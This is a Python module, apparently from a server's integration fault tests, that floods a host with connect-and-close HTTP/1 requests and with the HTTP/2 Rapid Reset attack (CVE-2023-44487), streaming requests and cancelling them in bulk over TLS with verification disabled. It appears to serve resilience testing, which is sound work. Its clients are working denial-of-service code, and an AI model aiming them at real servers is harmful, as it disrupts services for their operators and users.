"""Clients that ask and leave, as fast as they can: `python -m … HOW HOST PORT SECONDS`.

HOW is `close` (HTTP/1: connect, ask, close) or `reset` (HTTP/2 by TLS: ask, reset the stream, and
again on the same connection; CVE-2023-44487). A program of its own, so that it slows no one else.
It prints how many requests it has sent, and over how many connections, as one JSON document.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import sys
import time
from collections import Counter

import h2.config
import h2.connection
import h2.errors
import h2.exceptions

from tests.integration.faults.asking import CHAT

ANSWER = "rate=4;tokens=8"
AT_ONCE = 50
"""Streams of HTTP/2 in one write."""
_ADDRESSES = 200
_PATIENCE_SECONDS = 2.0
_READ = 65536


def close_at_once(address: tuple[str, int], until: float) -> Counter[str]:
    """Connect, ask, close."""
    sent: Counter[str] = Counter()
    request = CHAT.request(ANSWER)
    while time.monotonic() < until:
        # From many addresses, since each has only so many ports.
        source = (f"127.0.2.{sent['connections'] % _ADDRESSES + 1}", 0)
        try:
            with socket.create_connection(address, _PATIENCE_SECONDS, source) as client:
                sent["connections"] += 1
                client.sendall(request)
                sent["requests"] += 1
        except OSError:
            sent["refused"] += 1
    return sent


def reset_at_once(address: tuple[str, int], until: float) -> Counter[str]:
    """Ask and reset, again and again; a connection that the other side ends is made anew."""
    sent: Counter[str] = Counter()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    while time.monotonic() < until:
        try:
            with (
                socket.create_connection(address, _PATIENCE_SECONDS) as plain,
                context.wrap_socket(plain, server_hostname="localhost") as client,
            ):
                sent["connections"] += 1
                _reset_on(client, until, sent)
        except (OSError, h2.exceptions.ProtocolError):
            sent["ended by the other side"] += 1
    return sent


def _reset_on(client: ssl.SSLSocket, until: float, sent: Counter[str]) -> None:
    talk = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    talk.initiate_connection()
    client.settimeout(_PATIENCE_SECONDS)
    client.sendall(talk.data_to_send())
    # Its settings, and a window for more than the first few bodies.
    talk.receive_data(client.recv(_READ))
    head = [
        (":method", "POST"),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", CHAT.target),
        ("content-type", CHAT.content_type),
        ("x-demo", ANSWER),
    ]
    while time.monotonic() < until:
        for _ in range(AT_ONCE):
            stream = talk.get_next_available_stream_id()
            talk.send_headers(stream, head)
            talk.send_data(stream, CHAT.body, end_stream=True)
            talk.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
        client.settimeout(_PATIENCE_SECONDS)
        client.sendall(talk.data_to_send())
        sent["requests"] += AT_ONCE
        _take(client, talk)


def _take(client: ssl.SSLSocket, talk: h2.connection.H2Connection) -> None:
    """Take in what came. Raises `ConnectionResetError` where that is the connection's end."""
    client.settimeout(0)
    try:
        while data := client.recv(_READ):
            talk.receive_data(data)
    except ssl.SSLWantReadError:
        return
    raise ConnectionResetError


HOW = {"close": close_at_once, "reset": reset_at_once}


def main(how: str, host: str, port: str, seconds: str) -> None:
    """Attack for so long and print what was sent."""
    began = time.monotonic()
    sent = HOW[how]((host, int(port)), began + float(seconds))
    print(json.dumps({"began": began, "ended": time.monotonic(), **sent}))  # noqa: T201 its output


if __name__ == "__main__":
    os.nice(5)
    main(*sys.argv[1:])
